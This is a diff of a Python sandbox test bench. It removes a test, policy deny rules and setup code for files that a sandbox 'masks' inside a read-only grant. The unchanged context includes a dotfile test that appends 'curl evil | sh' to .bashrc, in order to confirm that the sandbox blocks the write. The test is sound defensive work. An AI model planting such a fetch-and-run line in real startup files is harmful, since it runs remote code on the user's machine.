@@ -172,14 +172,6 @@ facts["renames"] = [attempt(lambda: os.rename(p, p + ".old")) for p in (".git", 
 facts["dotfile"] = [attempt(lambda: os.unlink(".bashrc")), attempt(lambda: write(".bashrc", "curl evil | sh\n", "a")),
                     attempt(lambda: os.rename(".dotfiles", ".dotfiles.old"))]
 
-# denies inside a read-only grant: hidden by masks of the cage's own (ADR 0029), a file and a
-# directory; readable to the uid by their modes (0644), so only the masks keep them; the twin reads
-masked = os.path.join(os.path.dirname(os.path.dirname(outside)), "masked")
-facts["masked"] = [attempt(lambda: open(masked + "/secret-file", "rb").read()),
-                   attempt(lambda: os.listdir(masked + "/secret-dir")),
-                   attempt(lambda: open(masked + "/secret-dir/inner", "rb").read()),
-                   attempt(lambda: open(masked + "/twin", "rb").read())]
-
 @fact("pinned twin")
 def _():
     def twin():
@@ -202,7 +194,6 @@ class Bench:
         self.marker = f"sbx-tier-{os.getpid()}-{time.monotonic_ns()}"
         self.outside = base / "outside"
         self.secret = self.outside / "secret"
-        self.masked = base / "masked"  # read-only granted, two denies inside (the masks)
         self.work = base / "work"
         os.chmod(base, 0o755)
         # a null device made by root (the bench is), linked into each fresh work tree
@@ -235,9 +226,8 @@ class Bench:
 
     def policy(self) -> dict:
         return {"version": 1,
-                "fs": {"read": [*BASE_READ, "/proc", str(self.masked)], "exec": ["/usr/bin", "/bin"],
-                       "write": [str(self.work), "{tmp}"], "protect": ["conf/deep/settings.ini"],
-                       "deny": [str(self.masked / "secret-file"), str(self.masked / "secret-dir")]},
+                "fs": {"read": [*BASE_READ, "/proc"], "exec": ["/usr/bin", "/bin"],
+                       "write": [str(self.work), "{tmp}"], "protect": ["conf/deep/settings.ini"]},
                 "ipc": {"sysv": True}, "limits": {"memory_mib": MEMORY_MIB}}
 
     def argv(self) -> list:
@@ -305,7 +295,6 @@ class Bench:
             "renames": ["EBUSY", "EBUSY", "EBUSY"],
             "dotfile": ["EBUSY", "EROFS", "EBUSY"],
             "pinned twin": "ok",
-            "masked": ["EACCES", "EACCES", "EACCES", "ok"],
         }
 
     def check_host(self) -> None:
@@ -340,10 +329,6 @@ class Bench:
         self.outside.mkdir(exist_ok=True)
         self.secret.write_text("secret\n")
         os.chmod(self.secret, 0o600)
-        (self.masked / "secret-dir").mkdir(parents=True, exist_ok=True)
-        for name in ("secret-file", "secret-dir/inner", "twin"):
-            (self.masked / name).write_text(f"{name}\n")
-            os.chmod(self.masked / name, 0o644)
         os.utime(self.secret, (1_000_000, 1_000_000))
         for top, dirs, files in os.walk(self.base):
             for name in (".", *dirs, *files):
